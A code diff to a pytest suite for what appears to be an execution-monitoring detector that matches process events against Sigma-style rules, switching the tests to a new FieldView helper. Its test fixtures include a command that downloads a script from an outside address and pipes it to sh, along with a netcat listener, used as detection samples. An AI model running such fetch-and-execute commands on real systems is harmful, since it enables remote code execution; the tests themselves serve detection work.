@@ -11,8 +11,9 @@ from pathlib import Path
 
 import pytest
 
+from execguard.engine.fields import FIELDS, FieldView, flat_fields
 from execguard.engine.sigma import RuleError, load_rules
-from execguard.model import FIELDS, Actor, Event, Target
+from execguard.model import Actor, Event, Target
 
 DOCS = Path(__file__).resolve().parent.parent / "docs" / "fields.md"
 
@@ -177,9 +178,9 @@ def test_valid_custom_rule_with_modifiers_loads_and_fires(tmp_path: Path) -> Non
         event(["bash"], ip="10.20.3.4", tty=True),
     ]
     misses = [event(["wget", "http://example.com/"]), event(["nc", "-l", "8080"]), event(["bash"], tty=True)]
-    assert [rule.matcher(e.fields()) for e in hits] == [True] * 4
-    assert [rule.matcher(e.fields()) for e in misses] == [False] * 3
-    assert rule.explain(hits[0].fields()) == (
+    assert [rule.matcher(FieldView(e)) for e in hits] == [True] * 4
+    assert [rule.matcher(FieldView(e)) for e in misses] == [False] * 3
+    assert rule.explain(FieldView(hits[0])) == (
         "alice from 192.0.2.9 ran sh -c wget -q -O - http://198.51.100.4/a | sh in shop/web-1 container app (no image)"
     )
 
@@ -213,7 +214,7 @@ def test_docs_fields_md_lists_exactly_the_model_fields() -> None:
     documented = documented_fields()
     assert len(documented) == len(set(documented)), "a field is documented twice"
     assert set(documented) == set(FIELDS)
-    assert set(FIELDS) == set(Event().fields())
+    assert set(FIELDS) == set(flat_fields(Event()))
 
 
 def test_unreadable_rule_file_is_one_line(tmp_path: Path) -> None:
